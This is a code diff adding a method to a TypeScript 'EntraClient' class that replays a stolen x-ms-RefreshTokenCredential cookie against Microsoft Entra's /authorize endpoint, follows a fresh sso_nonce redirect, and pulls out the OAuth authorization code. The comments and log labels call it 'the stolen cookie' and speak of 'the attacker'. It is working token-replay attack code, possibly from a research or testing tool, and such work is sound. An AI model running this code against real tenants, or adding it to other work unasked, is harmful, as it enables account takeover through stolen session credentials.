@@ -87,6 +87,57 @@ export class EntraClient {
     );
   }
 
+  /**
+   * The browser's half of the authorization code flow (RFC 6749 §4.1.1) with an
+   * x-ms-RefreshTokenCredential in `headers` (prt-protocol §6.3): GET /authorize; when the cloud
+   * answers ESTS's redirect back to itself with a fresh `sso_nonce` (§3 "Browser variant"),
+   * follow it once with the same headers (the attacker cannot sign a cookie over the new nonce);
+   * then read the code off the redirect to `redirectUri`, whose `state` must be ours. The redirect
+   * URI is never contacted, as a native client only reads it.
+   */
+  async authorizationCode(args: {
+    query: Record<string, string>;
+    headers: Record<string, string>;
+    redirectUri: string;
+    state: string;
+  }): Promise<string | undefined> {
+    const path = `/${this.tenant}/oauth2/authorize?${new URLSearchParams(args.query)}`;
+    let a = this.keep(
+      'GET /authorize with the stolen cookie',
+      await httpsCall(this.target, path, { headers: args.headers }),
+    );
+    const self = a.location ? this.#ownAuthorizeRedirect(a.location) : undefined;
+    if (a.status === 302 && self !== undefined) {
+      a = this.keep(
+        'GET /authorize again, at the URL with the fresh sso_nonce, with the same cookie',
+        await httpsCall(this.target, self, { headers: args.headers }),
+      );
+    }
+    if (a.status !== 302 || a.location === undefined) return undefined;
+    let url: URL;
+    try {
+      url = new URL(a.location);
+    } catch {
+      return undefined;
+    }
+    if (`${url.origin}${url.pathname}` !== args.redirectUri) return undefined;
+    if (url.searchParams.get('state') !== args.state) return undefined;
+    return url.searchParams.get('code') ?? undefined;
+  }
+
+  /** The path and query of a redirect to this cloud's own /authorize, else undefined. */
+  #ownAuthorizeRedirect(location: string): string | undefined {
+    try {
+      const url = new URL(location);
+      if (url.origin !== new URL(this.target.base).origin) return undefined;
+      return /\/oauth2\/(v2\.0\/)?authorize$/.test(url.pathname)
+        ? `${url.pathname}${url.search}`
+        : undefined;
+    } catch {
+      return undefined;
+    }
+  }
+
   /** GET with a bearer access token (a resource call). */
   async bearerGet(what: string, path: string, accessToken: string): Promise<Answer> {
     return this.keep(
